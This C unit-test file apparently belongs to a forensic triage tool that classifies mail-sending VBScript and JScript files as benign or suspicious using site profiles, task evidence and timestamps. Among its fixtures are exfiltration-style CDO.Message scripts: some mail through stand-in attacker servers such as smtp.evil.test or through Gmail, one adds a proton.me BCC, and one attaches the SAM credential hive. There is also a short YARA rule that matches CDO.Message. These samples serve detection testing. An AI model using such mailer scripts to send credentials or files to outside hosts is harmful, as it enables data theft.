/* SPDX-License-Identifier: Apache-2.0 */
/* test_verdicts.c - profiles and their errors, the verdicts of ordinary scripts, and that a second
 * site's facts flip just what depends on them. */
#include "assess_test.h"

static const char SITE[] = "format: triage-benign/1\nsite:\n  mail-domains: [corp.example]\n"
                           "  relays: [mail.corp.example, 10.20.0.0/16]\n";
static const char OTHER_SITE[] = "format: triage-benign/1\nsite:\n  mail-domains: [nord.example]\n"
                                 "  relays: [relay.nord.example]\n";

#define SCRIPT(server, to, more)                                                                   \
  "Set m = CreateObject(\"CDO.Message\")\n"                                                        \
  "m.Configuration.Fields.Item(\"http://schemas.microsoft.com/cdo/configuration/smtpserver\") = "  \
  "\"" server "\"\nm.From = \"job@corp.example\"\nm.To = \"" to "\"\n" more "m.Send\n"

static FactRef task(const char *target) {
  return (FactRef){.kind = "task",
                   .target = target,
                   .detail = "author CORP\\\\adm",
                   .path = "/Windows/System32/Tasks/Corp/Report",
                   .sha256 = "aa",
                   .evidence = "disk",
                   .volume = 1,
                   .is_live = true};
}

static VerdictKind verdict_of(const char *site, const TestPlace *place, const char *text,
                              const char *scenario) {
  g_autoptr(ProfileSet) set = test_profiles(site);
  Verdict verdict;
  test_assess(set, place, text, &verdict);
  VerdictKind kind = verdict.verdict;
  if (scenario != NULL && strcmp(verdict.scenario, scenario) != 0)
    fail_msg("scenario %s (%s)", verdict.scenario, verdict.reason);
  if (kind == VERDICT_KNOWN_BENIGN)
    assert_true(verdict.corroboration->len > 0);
  verdict_clear(&verdict);
  return kind;
}

static const char GOOD[] =
    SCRIPT("mail.corp.example", "finance@corp.example", "m.AddAttachment \"D:\\Reports\\x.csv\"\n");

static void test_report(void **state) {
  (void)state;
  FactRef fact = task("cscript.exe //B \"C:\\\\Scripts\\\\Reports\\\\n.vbs\"");
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &fact);
  TestPlace place = {.path = "/Scripts/Reports/n.vbs", .facts = facts};
  assert_int_equal(verdict_of(SITE, &place, GOOD, "scheduled-report"), VERDICT_KNOWN_BENIGN);
  /* a second site: the same script now mails by a server outside */
  assert_int_equal(verdict_of(OTHER_SITE, &place, GOOD, ""), VERDICT_SUSPICIOUS);
  /* nothing stated: likely, by what the evidence implies */
  FactRef domain = fact;
  domain.kind = "account-domain";
  domain.target = "CORP";
  g_ptr_array_add(facts, &domain);
  assert_int_equal(verdict_of(NULL, &place, GOOD, "scheduled-report"), VERDICT_LIKELY_BENIGN);
  domain.target = "NORD";
  assert_int_equal(verdict_of(NULL, &place, GOOD, ""), VERDICT_UNEXPLAINED);
  fact.is_live = false; /* the task was deleted */
  assert_int_equal(verdict_of(SITE, &place, GOOD, "internal-relay"), VERDICT_LIKELY_BENIGN);
}

static void test_place(void **state) {
  (void)state;
  FactRef fact = task("cscript.exe //B \"C:\\\\Scripts\\\\Reports\\\\n.vbs\"");
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &fact);
  const TestPlace places[] = {
      {.path = "/Scripts/Reports/n.vbs", .state = "deleted", .facts = facts},
      {.path = "/Scripts/Reports/n.vbs", .is_named_stream = true, .facts = facts},
      {.path = "/Windows/Temp/n.vbs", .facts = facts},
      {.path = "/Scripts/Reports/n.vbs", .view = "vbe", .facts = facts},
      {.path = "/Scripts/Reports/n.vbs", .view = "folded", .facts = facts},
      {.path = "/Scripts/Reports/n.vbs", .view = "utf-16le+escapes", .facts = facts},
      {.path = "/Scripts/Reports/n.vbs", .view = "base64+utf-16le", .facts = facts}};
  for (guint i = 0; i < G_N_ELEMENTS(places); i++)
    assert_int_equal(verdict_of(SITE, &places[i], GOOD, ""), VERDICT_SUSPICIOUS);
  TestPlace open = {.path = "/Users/x/Desktop/n.vbs", .facts = facts};
  assert_int_equal(verdict_of(SITE, &open, GOOD, ""), VERDICT_UNEXPLAINED);
  TestPlace table = {.path = "/$MFT", .facts = facts};
  assert_int_equal(verdict_of(SITE, &table, GOOD, ""), VERDICT_UNEXPLAINED);
}

static VerdictKind verdict_with(FactRef *fact, const char *path, const char *text) {
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, fact);
  TestPlace place = {.path = path, .facts = facts};
  return verdict_of(SITE, &place, text, NULL);
}

/* A product's own configuration names the directory: only then, only for what lies in it, and only
 * for what mails within the site. */
static void test_product(void **state) {
  (void)state;
  FactRef zabbix = task("/usr/lib/zabbix/alertscripts");
  zabbix.kind = "monitoring-directory";
  zabbix.path = "/etc/zabbix/zabbix_server.conf";
  const char *const mine = "/usr/lib/zabbix/alertscripts/n.py";
  assert_int_equal(verdict_with(&zabbix, mine, GOOD), VERDICT_KNOWN_BENIGN);
  assert_int_equal(verdict_with(&zabbix, mine, SCRIPT("smtp.evil.test", "a@corp.example", "")),
                   VERDICT_SUSPICIOUS);
  assert_int_equal(verdict_with(&zabbix, mine, SCRIPT("mail.corp.example", "a@evil.test", "")),
                   VERDICT_UNEXPLAINED);
  static const char *const others[] = {
      "/usr/lib/zabbix/alertscripts/below/n.py", "/usr/lib/zabbix/n.py",
      "/usr/lib/zabbix/alertscripts2/n.py",      "/USR/lib/zabbix/alertscripts/n.py",
      "/x/usr/lib/zabbix/alertscripts/n.py",     "/usr/lib/zabbix/alertscripts"};
  for (guint i = 0; i < G_N_ELEMENTS(others); i++)
    if (verdict_with(&zabbix, others[i], GOOD) == VERDICT_KNOWN_BENIGN)
      fail_msg("known: %s", others[i]);
  FactRef other = zabbix;
  other.volume = 2;
  assert_int_equal(verdict_with(&other, mine, GOOD), VERDICT_LIKELY_BENIGN);
  other = zabbix;
  other.is_live = false;
  assert_int_equal(verdict_with(&other, mine, GOOD), VERDICT_LIKELY_BENIGN);
  other = zabbix;
  other.path = "/srv/x/zabbix/zabbix_server.conf"; /* not where the product reads it */
  assert_int_equal(verdict_with(&other, mine, GOOD), VERDICT_LIKELY_BENIGN);

  FactRef nsclient = task("scripts\\\\");
  nsclient.kind = "monitoring-directory";
  nsclient.path = "/Program Files/NSClient++/nsclient.ini";
  const char *const its = "/Program Files/NSClient++/scripts/n.vbs";
  assert_int_equal(verdict_with(&nsclient, its, GOOD), VERDICT_KNOWN_BENIGN);
  assert_int_equal(verdict_with(&nsclient, "/scripts/n.vbs", GOOD), VERDICT_LIKELY_BENIGN);
  nsclient.target = "..\\\\..\\\\Users";
  assert_int_equal(verdict_with(&nsclient, "/Users/n.vbs", GOOD), VERDICT_UNEXPLAINED);
  FactRef command = nsclient; /* a command from where it is installed */
  command.kind = "monitoring";
  command.target = "cscript.exe //nologo scripts\\\\n.vbs";
  assert_int_equal(verdict_with(&command, its, GOOD), VERDICT_KNOWN_BENIGN);
}

#define SITE_WITH(more)                                                                            \
  "format: triage-benign/1\nsite:\n  mail-domains: [corp.example]\n"                               \
  "  relays: [mail.corp.example]\n" more

static void test_report_directories(void **state) {
  (void)state;
  static const char site[] =
      SITE_WITH("  report-directories: ['D:\\Finance\\Reports\\', /srv/reports]\n");
  static const char *const inside[] = {"/finance/REPORTS/n.vbs", "/Finance/Reports/a/n.vbs",
                                       "/srv/reports/n.py"};
  for (guint i = 0; i < G_N_ELEMENTS(inside); i++) {
    TestPlace place = {.path = inside[i]};
    assert_int_equal(verdict_of(site, &place, GOOD, "scheduled-report"), VERDICT_LIKELY_BENIGN);
    assert_int_equal(verdict_of(site, &place, SCRIPT("smtp.evil.test", "a@corp.example", ""), ""),
                     VERDICT_SUSPICIOUS);
    assert_int_equal(verdict_of(site, &place, SCRIPT("mail.corp.example", "a@evil.test", ""), ""),
                     VERDICT_UNEXPLAINED);
  }
  static const char *const outside[] = {"/Finance/Reports2/n.vbs", "/x/Finance/Reports/n.vbs"};
  for (guint i = 0; i < G_N_ELEMENTS(outside); i++) {
    TestPlace place = {.path = outside[i]};
    assert_int_equal(verdict_of(site, &place, GOOD, "internal-relay"), VERDICT_LIKELY_BENIGN);
  }
}

/* Senders at these hosts are the site's and pages of theirs no way out; they are no relays. */
static void test_service_hosts(void **state) {
  (void)state;
  static const char site[] = SITE_WITH("  monitoring-hosts: [mon1.corp.example, 192.0.2.0/24]\n"
                                       "  backup-hosts: [bak1.corp.example]\n");
  TestPlace place = {.path = "/Scripts/n.vbs"};
  const struct {
    const char *text, *with; /* scenario; NULL: unexplained */
  } cases[] = {
      {SCRIPT("mail.corp.example", "ops@corp.example", "m.From = \"root@mon1.corp.example\"\n"),
       "health-check"},
      {SCRIPT("mail.corp.example", "ops@corp.example", "m.From = \"root@bak1.corp.example\"\n"),
       "backup-notification"},
      {SCRIPT("mail.corp.example", "ops@corp.example",
              "m.CreateMHTMLBody \"http://192.0.2.7:8080/status\"\n"),
       "health-check"},
      {SCRIPT("mail.corp.example", "ops@corp.example",
              "m.CreateMHTMLBody \"http://mon1.corp.example.evil.test/\"\n"),
       NULL},
      {SCRIPT("mail.corp.example", "ops@corp.example",
              "m.From = \"x@evil.test, root@mon1.corp.example\"\n"),
       NULL},
      {SCRIPT("mail.corp.example", "ops@mon1.corp.example", ""), NULL},
      {SCRIPT("mon1.corp.example", "ops@corp.example", ""), NULL}};
  for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
    VerdictKind with = cases[i].with != NULL ? VERDICT_LIKELY_BENIGN : VERDICT_UNEXPLAINED;
    const char *scenario = cases[i].with != NULL ? cases[i].with : "";
    if (verdict_of(site, &place, cases[i].text, scenario) != with ||
        verdict_of(SITE_WITH(""), &place, cases[i].text, "") != VERDICT_UNEXPLAINED)
      fail_msg("case %u", i);
  }
}

/* A server that comes by a parameter: the text still tells whose it may be. */
static void test_named_server(void **state) {
  (void)state;
#define BY_PARAMETER(server)                                                                       \
  "post(\"u@corp.example\", \"" server "\");\nfunction post(from, host) {\n"                       \
  "var m = new ActiveXObject(\"CDO.Message\");\n"                                                  \
  "m.Configuration.Fields.Item(\"http://schemas.microsoft.com/cdo/configuration/smtpserver\") = "  \
  "host;\nm.To = \"finance@corp.example\";\nm.Send();\n}\n"
  TestPlace place = {.path = "/Scripts/n.js"};
  assert_int_equal(verdict_of(SITE, &place, BY_PARAMETER("SMTP.gmail.com"), ""),
                   VERDICT_SUSPICIOUS);
  static const char *const others[] = {BY_PARAMETER("smtp.other.example"),
                                       "// smtp.gmail.com\n" BY_PARAMETER("mail.corp.example"),
                                       BY_PARAMETER("see smtp.gmail.com")};
  for (guint i = 0; i < G_N_ELEMENTS(others); i++)
    assert_int_equal(verdict_of(SITE, &place, others[i], ""), VERDICT_UNEXPLAINED);
  /* one that is named and not used changes nothing */
  assert_int_equal(
      verdict_of(SITE, &place,
                 SCRIPT("mail.corp.example", "finance@corp.example", "x = \"smtp.gmail.com\"\n"),
                 "internal-relay"),
      VERDICT_LIKELY_BENIGN);
}

/* A job that runs a batch file that runs the script: each link counts, and both are named. */
static void test_batch(void **state) {
  (void)state;
  FactRef job = task("C:\\\\Scripts\\\\run.cmd -q"), batch = job, other;
  batch.kind = "batch";
  batch.path = "/Scripts/run.cmd";
  batch.sha256 = "bb";
  const struct {
    const char *runs;
    VerdictKind verdict;
  } cases[] = {{"cscript //nologo \"%~dp0n.vbs\"", VERDICT_KNOWN_BENIGN},
               {"cscript %~dp0\\\\n.vbs", VERDICT_KNOWN_BENIGN},
               {"cscript C:\\\\Scripts\\\\n.vbs", VERDICT_KNOWN_BENIGN},
               {"cscript %~dp0..\\\\Scripts\\\\n.vbs", VERDICT_LIKELY_BENIGN},
               {"cscript n.vbs", VERDICT_LIKELY_BENIGN},
               {"cscript D:\\\\Scripts\\\\n.vbs", VERDICT_LIKELY_BENIGN},
               {"cscript C:\\\\Scripts\\\\other.vbs n.vbs", VERDICT_LIKELY_BENIGN}};
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  TestPlace place = {.path = "/Scripts/n.vbs", .facts = facts};
  g_ptr_array_add(facts, &job);
  g_ptr_array_add(facts, &batch);
  for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
    batch.target = cases[i].runs;
    if (verdict_of(SITE, &place, GOOD, NULL) != cases[i].verdict)
      fail_msg("%s", cases[i].runs);
  }
  batch.target = cases[0].runs;
  g_autoptr(ProfileSet) set = test_profiles(SITE);
  Verdict verdict;
  test_assess(set, &place, GOOD, &verdict);
  assert_int_equal(verdict.corroboration->len, 2);
  assert_non_null(strstr(verdict.corroboration->pdata[1], "/Scripts/run.cmd of disk, SHA-256 bb"));
  verdict_clear(&verdict);

  other = batch; /* the batch file that the job runs is another one */
  other.path = "/Scripts/old/run.cmd";
  facts->pdata[1] = &other;
  assert_int_equal(verdict_of(SITE, &place, GOOD, NULL), VERDICT_LIKELY_BENIGN);
  other = batch;
  other.is_live = false;
  assert_int_equal(verdict_of(SITE, &place, GOOD, NULL), VERDICT_LIKELY_BENIGN);
  facts->pdata[1] = &batch;
  job.kind = "disabled-task"; /* nothing runs the batch file */
  assert_int_equal(verdict_of(SITE, &place, GOOD, NULL), VERDICT_LIKELY_BENIGN);
  job.kind = "task"; /* every user can change it */
  job.target = "C:\\\\Users\\\\Public\\\\run.cmd";
  batch.path = "/Users/Public/run.cmd";
  batch.target = cases[2].runs;
  assert_int_equal(verdict_of(SITE, &place, GOOD, NULL), VERDICT_LIKELY_BENIGN);
}

/* The same harmless script under a name of Windows, wherever it lies, is none; a word that other
 * products use as well is, and so is a text that mails nothing. */
static void test_system_name(void **state) {
  (void)state;
  static const char *const names[] = {"/Windows/System32/svchost.vbs", "/Scripts/Explorer.VBS",
                                      "/Scripts/slmgr.vbs", "/Scripts/lsass.exe.vbs",
                                      "/Scripts/csrss.exe"};
  for (guint i = 0; i < G_N_ELEMENTS(names); i++) {
    TestPlace place = {.path = names[i]};
    if (verdict_of(SITE, &place, GOOD, "") != VERDICT_SUSPICIOUS)
      fail_msg("not suspicious: %s", names[i]);
  }
  TestPlace member = {.path = "/Scripts/old.zip", .member = "a/svchost.vbs"};
  assert_int_equal(verdict_of(SITE, &member, GOOD, ""), VERDICT_SUSPICIOUS);
  static const char *const others[] = {"/Scripts/services.js", "/Scripts/explorer.asp",
                                       "/Scripts/mysvchost.vbs", "/svchost.vbs/n.vbs"};
  for (guint i = 0; i < G_N_ELEMENTS(others); i++) {
    TestPlace place = {.path = others[i]};
    assert_int_equal(verdict_of(SITE, &place, GOOD, "internal-relay"), VERDICT_LIKELY_BENIGN);
  }
  TestPlace mention = {.path = "/Scripts/svchost.vbs"};
  assert_int_equal(verdict_of(SITE, &mention, "' CDO.Message\n", ""), VERDICT_UNEXPLAINED);
}

static void test_suspicious(void **state) {
  (void)state;
  static const char *const texts[] = {
      SCRIPT("smtp.gmail.com", "x@gmail.com", ""),
      SCRIPT("mail.corp.example", "finance@corp.example", "m.Bcc = \"x@proton.me\"\n"),
      SCRIPT("mail.corp.example.evil.test", "finance@corp.example", ""),
      SCRIPT("mail.corp.example", "finance@corp.example", "m.AddAttachment \"C:\\x\\SAM\"\n"),
      SCRIPT("203.0.113.9", "finance@corp.example", "")};
  FactRef fact = task("cscript.exe \"C:\\\\Scripts\\\\n.vbs\"");
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &fact);
  TestPlace place = {.path = "/Scripts/n.vbs", .facts = facts};
  for (guint i = 0; i < G_N_ELEMENTS(texts); i++)
    if (verdict_of(SITE, &place, texts[i], "") != VERDICT_SUSPICIOUS)
      fail_msg("not suspicious: %s", texts[i]);
}

static void test_other_content(void **state) {
  (void)state;
  FactRef store = {.kind = "mail-store",
                   .target = "mbox",
                   .detail = "",
                   .path = "/home/jdoe/.thunderbird/x/Mail/Local Folders/Inbox",
                   .sha256 = "aa",
                   .evidence = "disk",
                   .volume = 1,
                   .is_live = true};
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &store);
  TestPlace inbox = {.path = store.path, .facts = facts};
  static const char mail[] = "From - Mon Jun  3 10:00:00 2024\nX-Mozilla-Status: 0001\n"
                             "From: a@corp.example\nTo: b@corp.example\nSubject: x\n\n";
  g_autofree char *mbox = g_strconcat(mail, GOOD, NULL);
  assert_int_equal(verdict_of(SITE, &inbox, mbox, "user-mail"), VERDICT_LIKELY_BENIGN);
  static const char bad[] = SCRIPT("smtp.gmail.com", "x@gmail.com", "");
  assert_int_equal(verdict_of(SITE, &inbox, bad, ""), VERDICT_UNEXPLAINED);
  inbox.member = "message-3!/part-1";
  assert_int_equal(verdict_of(SITE, &inbox, GOOD, "user-mail"), VERDICT_LIKELY_BENIGN);
  inbox.member = "message-3!/invoice.vbs";
  assert_int_equal(verdict_of(SITE, &inbox, bad, ""), VERDICT_SUSPICIOUS);
  TestPlace script = {.path = "/home/jdoe/.thunderbird/x/Mail/run.vbs", .facts = facts};
  assert_int_equal(verdict_of(SITE, &script, GOOD, ""), VERDICT_UNEXPLAINED);
  TestPlace rules = {.path = "/opt/scanner/mail.yar"};
  assert_int_equal(verdict_of(SITE, &rules,
                              "rule x {\n strings:\n  $a = \"CDO.Message\" nocase\n condition:\n  "
                              "any of them\n}\n",
                              ""),
                   VERDICT_LIKELY_BENIGN);
}

static void test_approved(void **state) {
  (void)state;
  static const char digest[] = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff";
  g_autofree char *site = g_strdup_printf(
      "%s  approved:\n    - sha256: %s\n      scenario: health-check\n      note: ticket 7\n", SITE,
      digest);
  g_autoptr(ProfileSet) set = test_profiles(site);
  TestPlace place = {.path = "/x.vbs", .sha256 = digest};
  Verdict verdict;
  test_assess(set, &place, SCRIPT("smtp.gmail.com", "x@gmail.com", ""), &verdict);
  assert_int_equal(verdict.verdict, VERDICT_KNOWN_BENIGN);
  assert_string_equal(verdict.scenario, "health-check");
  verdict_clear(&verdict);
  place.is_timestomped = true; /* what it does is approved, that its times were set is not */
  test_assess(set, &place, GOOD, &verdict);
  assert_int_equal(verdict.verdict, VERDICT_SUSPICIOUS);
  if (strstr(verdict.reason, "approved") == NULL || strstr(verdict.reason, "contradict") == NULL)
    fail_msg("%s", verdict.reason);
  verdict_clear(&verdict);
}

static void test_timestomped(void **state) {
  (void)state;
  FactRef fact = task("cscript.exe \"C:\\\\Scripts\\\\n.vbs\"");
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &fact);
  TestPlace place = {.path = "/Scripts/n.vbs", .facts = facts, .is_timestomped = true};
  assert_int_equal(verdict_of(SITE, &place, GOOD, NULL), VERDICT_SUSPICIOUS);
  /* no script: nothing acts, but nothing excuses it either */
  static const char rules[] = "rule x {\n strings:\n  $a = \"CDO.Message\" nocase\n condition:\n  "
                              "any of them\n}\n";
  TestPlace other = {.path = "/opt/scanner/mail.yar", .is_timestomped = true};
  assert_int_equal(verdict_of(SITE, &other, rules, ""), VERDICT_UNEXPLAINED);
}

static bool has_ground(const TestPlace *place, const char *id, VerdictKind *kind) {
  g_autoptr(ProfileSet) set = test_profiles(SITE);
  Verdict verdict;
  bool has = false;
  test_assess(set, place, GOOD, &verdict);
  for (guint i = 0; i < verdict.grounds->len; i++)
    has = has || strcmp(g_array_index(verdict.grounds, VerdictGround, i).id, id) == 0;
  *kind = verdict.verdict;
  verdict_clear(&verdict);
  return has;
}

/* A task made for a script that was gone soon after; a task that was gone soon after. */
static void test_task_lives(void **state) {
  (void)state;
  enum { MADE = 1717400000, HOUR = 3600, DAY = 24 * HOUR };
  FactRef fact = task("cscript.exe \"C:\\\\Scripts\\\\n.vbs\"");
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &fact);
  VerdictKind kind;
  TestPlace gone = {.path = "/Scripts/n.vbs", .facts = facts, .state = "deleted"};
  gone.last = MADE + HOUR;
  assert_false(has_ground(&gone, "short-lived-task", &kind)); /* nothing says when it was made */
  fact.made = MADE;
  assert_true(has_ground(&gone, "short-lived-task", &kind));
  assert_int_equal(kind, VERDICT_SUSPICIOUS);
  gone.last = MADE + 400 * DAY;
  assert_false(has_ground(&gone, "short-lived-task", &kind));
  fact.made = 0; /* the task's own word: 2024-06-03 */
  fact.detail = "registered 2024-06-03T07:00:00.1234567; author registered 2025-07-08T00:00:00";
  gone.last = MADE + DAY;
  assert_true(has_ground(&gone, "short-lived-task", &kind));
  gone.last = MADE + 400 * DAY; /* what an author calls himself is no date */
  assert_false(has_ground(&gone, "short-lived-task", &kind));
  gone.last = MADE;
  fact.target = "cscript.exe \"C:\\\\Scripts\\\\other\\\\n.vbs\"";
  assert_false(has_ground(&gone, "short-lived-task", &kind));
  fact.target = "cscript.exe \"C:\\\\Scripts\\\\n.vbs\"";
  TestPlace live = {.path = "/Scripts/n.vbs", .facts = facts, .last = MADE};
  assert_false(has_ground(&live, "short-lived-task", &kind));
  assert_int_equal(kind, VERDICT_KNOWN_BENIGN);

  fact.is_live = false;
  fact.made = MADE;
  fact.last = MADE + 90 * DAY;
  fact.detail = "";
  assert_false(has_ground(&live, "deleted-task", &kind));
  assert_int_equal(kind, VERDICT_LIKELY_BENIGN);
  fact.last = MADE + HOUR;
  assert_true(has_ground(&live, "deleted-task", &kind));
  assert_int_equal(kind, VERDICT_UNEXPLAINED);
  FactRef again = task(fact.target); /* it was only made anew */
  g_ptr_array_add(facts, &again);
  assert_false(has_ground(&live, "deleted-task", &kind));
  assert_int_equal(kind, VERDICT_KNOWN_BENIGN);
}

/* The registry's cache of a task does as well as its file, and says when it ran. */
static void test_task_cache(void **state) {
  (void)state;
#define CACHE                                                                                      \
  "/Windows/System32/config/SOFTWARE!/Microsoft/Windows "                                          \
  "NT/CurrentVersion/Schedule/TaskCache/Tasks/"
  FactRef cache = task("cscript.exe \"C:\\\\Scripts\\\\n.vbs\"");
  cache.kind = "registry-task";
  cache.path = CACHE "{1}/Actions";
  FactRef times = cache, other = cache;
  times.kind = other.kind = "registry-task-times";
  times.target = other.target = "{1}";
  times.path = CACHE "{1}/DynamicInfo";
  times.detail = "registered 2024-06-03T07:00:00.0000000Z; last run 2024-07-01T05:00:00.0000000Z";
  other.path = CACHE "{2}/DynamicInfo";
  other.detail = "last run 2020-01-01T00:00:00.0000000Z";
  g_autoptr(GPtrArray) facts = g_ptr_array_new();
  g_ptr_array_add(facts, &other);
  g_ptr_array_add(facts, &cache);
  g_ptr_array_add(facts, &times);
  g_autoptr(ProfileSet) set = test_profiles(SITE);
  TestPlace place = {.path = "/Scripts/n.vbs", .facts = facts};
  Verdict verdict;
  test_assess(set, &place, GOOD, &verdict);
  assert_int_equal(verdict.verdict, VERDICT_KNOWN_BENIGN);
  assert_int_equal(verdict.corroboration->len, 1);
  const char *text = verdict.corroboration->pdata[0];
  if (!g_str_has_prefix(text, cache.path) || strstr(text, "last run 2024-07-01") == NULL)
    fail_msg("%s", text);
  verdict_clear(&verdict);
  FactRef file = task(cache.target); /* beside the task's file it adds the last run */
  g_ptr_array_add(facts, &file);
  test_assess(set, &place, GOOD, &verdict);
  assert_int_equal(verdict.corroboration->len, 2);
  assert_true(g_str_has_prefix(verdict.corroboration->pdata[0], file.path));
  verdict_clear(&verdict);
  g_ptr_array_remove(facts, &file);
  cache.path =
      "/Users/x/SOFTWARE!/Microsoft/Windows NT/CurrentVersion/Schedule/TaskCache/Tasks/{1}/"
      "Actions"; /* a hive of somebody's own */
  assert_int_equal(verdict_of(SITE, &place, GOOD, NULL), VERDICT_LIKELY_BENIGN);
}

static void expect_error(const char *text, const char *wanted) {
  g_autoptr(GError) error = NULL;
  g_autoptr(ProfileSet) set = profile_set_parse("f.yaml", text, &error);
  if (set != NULL)
    fail_msg("accepted: %s", text);
  assert_int_equal(triage_error_reason(error), TRIAGE_REASON_USAGE);
  if (!g_str_has_prefix(error->message, wanted))
    fail_msg("%s, not %s", error->message, wanted);
}

static void test_profile_errors(void **state) {
  (void)state;
  expect_error("", "f.yaml:");
  expect_error("format: triage-benign/2\n", "f.yaml:1:9: format 'triage-benign/2'");
  expect_error("site:\n  relays: [a]\n", "f.yaml:1:1: the key 'format");
  expect_error("format: triage-benign/1\nsite:\n  relay: [a]\n",
               "f.yaml:3:11: unknown key 'relay'");
  expect_error("format: triage-benign/1\nsite:\n  relays: [10.0.0.0/33]\n", "f.yaml:3:12: relay");
  expect_error("format: triage-benign/1\nsite:\n  backup-hosts: [a@b]\n",
               "f.yaml:3:18: host 'a@b' is neither");
  expect_error("format: triage-benign/1\nsite:\n  monitoring-hosts: x\n", "f.yaml:3:21: a list");
  static const char *const directories[] = {"Reports", "/", "/srv/*", "/srv/../x", "C:\\", "C:x"};
  for (guint i = 0; i < G_N_ELEMENTS(directories); i++) {
    g_autofree char *text = g_strdup_printf(
        "format: triage-benign/1\nsite:\n  report-directories: [%s]\n", directories[i]);
    expect_error(text, "f.yaml:3:24: '");
  }
  expect_error("format: triage-benign/1\nsite: {relays: [a]\n", "f.yaml:");
  expect_error("format: triage-benign/1\nsite:\n  mail-domains: &d [a.test]\n  relays: *d\n",
               "f.yaml:4:");
  expect_error("format: triage-benign/1\nprofiles:\n  - {id: a, scenario: tea, title: x}\n",
               "f.yaml:3:23: scenario 'tea'");
  expect_error("format: triage-benign/1\nsite:\n  approved: [{sha256: abc}]\n",
               "f.yaml:3:23: a SHA");
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_report),        cmocka_unit_test(test_system_name),
      cmocka_unit_test(test_product),       cmocka_unit_test(test_named_server),
      cmocka_unit_test(test_batch),         cmocka_unit_test(test_report_directories),
      cmocka_unit_test(test_service_hosts), cmocka_unit_test(test_place),
      cmocka_unit_test(test_suspicious),    cmocka_unit_test(test_other_content),
      cmocka_unit_test(test_timestomped),   cmocka_unit_test(test_task_lives),
      cmocka_unit_test(test_task_cache),    cmocka_unit_test(test_approved),
      cmocka_unit_test(test_profile_errors)};
  return cmocka_run_group_tests(tests, NULL, NULL);
}
